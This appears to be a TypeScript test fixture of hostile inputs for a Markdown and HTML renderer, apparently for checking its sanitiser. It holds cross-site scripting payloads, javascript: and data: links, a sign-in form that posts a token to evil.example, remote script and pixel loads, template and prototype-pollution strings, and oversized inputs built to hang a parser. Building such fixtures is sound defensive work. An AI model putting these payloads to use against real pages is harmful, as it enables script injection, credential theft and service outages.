/** What runs when a text is taken for a script: the tests look for its trace. */
const RUN = "document.documentElement.dataset.ran='yes'";

/** Bytes that call themselves a picture and are none. */
export const FAKE_PICTURE = Buffer.from(
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script></svg>`,
);

const times = (text: string, count: number) => text.repeat(count);

/** Texts that want to run, to load, to hide, to break out of their box or to stop the page; each begins with its name as a heading. */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  'script tags': `<script>${RUN}</script> <SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  'onerror images': `<img src=x onerror="${RUN}"> <video><source onerror="${RUN}"></video>`,
  'svg and mathml': `<svg onload="${RUN}"><a xlink:href="javascript:${RUN}">x</a></svg> <math><maction actiontype=statusline xlink:href="javascript:${RUN}">x</maction></math>`,
  frames: `<iframe srcdoc="<script>${RUN}</script>"></iframe><object data="data:text/html,x"></object><embed src="x"><base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">`,
  styles:
    '<style>* { display: none }</style> <link rel=stylesheet href=https://evil.example/x.css> <p style="position:fixed;inset:0">x</p>',
  forms: '<form action=https://evil.example/><input name=token><button>Sign in</button></form>',
  'script links': `[a](javascript:${RUN}) [b](JaVaScRiPt:alert(1)) [c](java\tscript:alert(1)) [d](&#x6A;avascript:alert(1)) [e](vbscript:x) <javascript:alert(1)> [f](\u0001javascript:alert(1))`,
  'data links':
    '[a](data:text/html,<script>alert(1)</script>) [b](data:image/svg+xml;base64,PHN2Zz4=) [c](blob:x) [d](file:///etc/passwd)',
  'links into this page':
    '[a](#token=stolen-token-0123456789) [b](#/tools) [c](/mcp) [d](//evil.example/x) [e](\\\\evil.example\\x) [f](https:evil.example)',
  'links with attributes': `[a](https://example.com "x\\" onmouseover=\\"${RUN}") [b](https://example.com/"onclick="${RUN}")`,
  'pictures from elsewhere':
    '![a](https://evil.example/pixel.png) ![b](//evil.example/pixel.png) ![c](http://127.0.0.1:9/x.png)',
  'pictures as data': `![a](data:image/svg+xml,<svg onload="${RUN}">) ![b](data:image/png;base64,AAAA) ![c](javascript:${RUN})`,
  'pictures that are none':
    '![an svg](/img/fake.svg) ![a false png](/img/fake.png) ![nothing](/img/none.png) ![up](../../../../../static/img/x.png)',
  'very many pictures': times('![dot](/img/dot.png) ', 900),
  'names of languages': ['"><script>', 'constructor', '__proto__', 'extend', 'toString', 'DFS', 'javascript{x}']
    .map((name) => `\`\`\`${name}\nconst a = 1;\n\`\`\`\n`)
    .join('\n'),
  'code without end': ['python', 'javascript', 'typescript', 'cobol', 'cpp', 'rust', 'sql', 'yaml', 'bash']
    .map(
      (name, at) =>
        `\`\`\`${name}\n${times(['"', '/*', '<T', "'", '(', 'r#"', '- ', ': ', '$('][at] as string, 8000)}\n\`\`\`\n`,
    )
    .join('\n'),
  'code of many lines': ['css', 'markup', 'bash', 'rust', 'javascript']
    .map(
      (name, at) =>
        `\`\`\`${name}\n${times(`${times([': ', '<a ', '$(', 'r#"', 'a'][at] as string, 100)}\n`, 60)}\`\`\`\n`,
    )
    .join('\n'),
  'turned around': 'a\u202Etxt.exe \u2066\u2067\u2068 b\u202E\u202Ec \u200F\u061C d',
  'letters on letters': `Z${times('\u0351\u0352\u0353', 3000)}algo and ${times('👨‍👩‍👧‍👦', 2000)}`,
  'one long line': times('x', 1_000_000),
  'one long word in a link': `[${times('y', 50_000)}](https://example.com/${times('z', 50_000)})`,
  'very many lines': times('\n', 300_000),
  'deep lists': Array.from({ length: 300 }, (_, at) => `${'  '.repeat(at)}- level ${at}`).join('\n'),
  'deep quotes': `${times('> ', 5000)}x\n\n${times('>', 50_000)} y`,
  'deep lists in quotes': Array.from({ length: 60 }, (_, at) => `${times('> - ', at)}x`).join('\n'),
  'a wide table': `|${times('column|', 2000)}\n|${times('-|', 2000)}\n|${times('cell|', 2000)}`,
  'a long table': `|a|b|\n|-|-|\n${times('|cell|cell|\n', 25_000)}`,
  'a false table': times('|', 100_000),
  'emphasis without end': `${times('*', 50_000)}a ${times('**a _b ', 20_000)}`,
  'brackets without end': `${times('[', 50_000)}${times('![](', 20_000)}${times('<', 20_000)}`,
  'backticks without end': Array.from({ length: 500 }, (_, at) => times('`', at)).join(' '),
  'formulas that define themselves':
    '$\\def\\a{\\a\\a}\\a$ and $\\def\\x#1{#1#1#1}\\x{\\x{\\x{\\x{\\x{\\x{\\x{y}}}}}}}$ and $\\newcommand{\\b}{\\b}\\b$',
  'formulas of braces': `$$\n${times('{', 100_000)}${times('}', 100_000)}\n$$\n\n$$\n${times('{', 1900)}x${times('}', 1900)}\n$$\n\n$${times('\\frac{1}{', 200)}x${times('}', 200)}$`,
  'formulas that link': `$\\href{javascript:${RUN}}{x}$ $\\url{https://evil.example}$ $\\includegraphics{https://evil.example/x.png}$ $\\htmlStyle{position:fixed}{x}$ $\\htmlId{app}{x}$ $\\htmlData{x=y}{x}$`,
  'formulas with styles':
    '$\\pmb{x}$ $\\fcolorbox{red}{blue}{x}$ $\\colorbox{red}{x}$ $\\boxed{x}$ $\\color{red} x$ $\\cancel{x}$',
  'formulas that reach out': `$\\rule{9999em}{9999em}$ $${times('\\kern-20em', 60)} spoof$ $\\raisebox{20em}{up}$ $\\hspace{9999em} x$ $\\llap{${times('left ', 100)}}$`,
  'a wide formula': `$${times('a+', 900)}a$\n\n$$\n${times('b+', 1500)}b\n$$`,
  'very many formulas': times('$x_1^2$ ', 3000),
  'broken characters': 'a\0b\u0007c\u001b[31m \uFFFE \uFEFF \u2028 \u2029 &#0; &#xD800; &#1114112;',
  'an open front matter': `---\ntitle: ${times('x', 100_000)}`,
  'templates and names of objects':
    '{{constructor.constructor("alert(1)")()}} ${7*7} <%= 7*7 %> __proto__ constructor\n\n[__proto__]: https://example.com\n\n[__proto__] [constructor]',
  'references to themselves': `${Array.from({ length: 3000 }, (_, at) => `[r${at}]: <r${at + 1}>`).join('\n')}\n\n[r0] [r1][r2]`,
};

/** Names that a file system takes and a page must not. */
export const HOSTILE_ASSETS: readonly string[] = [
  `<img src=x onerror=${RUN.replaceAll('/', '')}>.png`,
  'photo\u202Egnp.exe',
  `${times('long', 55)}.png`,
  `"quotes' & <b>bold<b>.png`,
  'javascript:alert(1).png',
];
